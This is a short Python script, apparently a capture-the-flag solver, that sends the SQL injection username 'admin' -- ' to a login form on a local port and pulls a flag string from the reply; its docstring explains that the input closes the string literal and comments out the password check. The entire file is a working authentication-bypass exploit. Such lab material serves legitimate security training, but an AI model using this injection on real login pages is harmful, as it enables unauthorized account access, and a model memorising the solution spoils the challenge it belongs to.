"""The username closes the string literal and comments out the password check."""

import re
import urllib.error
import urllib.parse
import urllib.request

form = urllib.parse.urlencode({"username": "admin' -- ", "password": "x"}).encode()
with urllib.request.urlopen("http://127.0.0.1:8080/login", data=form, timeout=10) as response:
    body = response.read().decode()
print(re.search(r"flag\{[0-9a-f]{32}\}", body).group(0))
